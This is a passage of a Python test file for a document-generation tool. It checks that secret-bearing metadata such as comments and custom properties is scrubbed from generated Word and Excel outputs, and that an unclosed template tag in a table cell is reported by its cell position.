    decision = _word_with_metadata(TEMPLATES / "decision.docx", tmp_path / "decision.docx")
    plan = _word_with_metadata(TEMPLATES / "plan.docx", tmp_path / "plan.docx")
    matrix = _matrix_with_metadata(tmp_path / "matrix.xlsx")
    for template in (decision, plan, matrix):  # the secrets are really in the templates
        assert len({s.split(":")[-1] for s in _parts_containing(template, SECRETS)}) >= 8
        assert check_template(template) == []  # metadata is scrubbed, not refused
    out = tmp_path / "out"
    code, text = _run(["build", str(PLAN), "--for-each-party", "--drafts", "--public",
                       "--out", str(out), "--template", f"decision={decision}",
                       "--template", f"plan={plan}", "--template", f"matrix={matrix}"], capsys)
    assert code == 0, text
    outputs = [p for p in out.rglob("*") if p.suffix in (".docx", ".xlsx")]
    assert any(p.parent.name == "julkinen" for p in outputs)
    assert len([p for p in outputs if p.suffix == ".xlsx"]) > 1
    assert [hit for p in outputs for hit in _parts_containing(p, SECRETS)] == []
    # what the comment was anchored to is still there, and the documents still open
    own = out / "paatosehdotus_jkl_fi.docx"
    with zipfile.ZipFile(own if own.exists() else next(out.glob("paatosehdotus_*.docx"))) as z:
        assert b"Kommentoitu kappale pysyy." in z.read("word/document.xml")
        assert "word/comments.xml" not in z.namelist()
        assert b"comments" not in z.read("[Content_Types].xml")
    with zipfile.ZipFile(next(out.glob("seurantamatriisi*.xlsx"))) as z:
        assert not [n for n in z.namelist() if "comment" in n or "custom" in n]


def test_an_unclosed_tag_in_a_table_cell_is_named_by_its_cell(tmp_path: Path) -> None:
    path = _rezip((TEMPLATES / "plan.docx").read_bytes(), tmp_path / "suunnitelma.docx", {
        "word/document.xml": lambda x: x.replace(b"{{ m.title }}", b"{{ m.title ", 1)})
    [issue] = check_template(path, "plan")
    assert str(issue).startswith("suunnitelma.docx: table 1, row 3, column 2 (near "
                                 "'{{ m.title '): '{{' is not closed with '}}'"), str(issue)
    import docx  # the cell named is the one Word shows with the tag

    assert docx.Document(str(path)).tables[0].rows[2].cells[1].text == "{{ m.title "
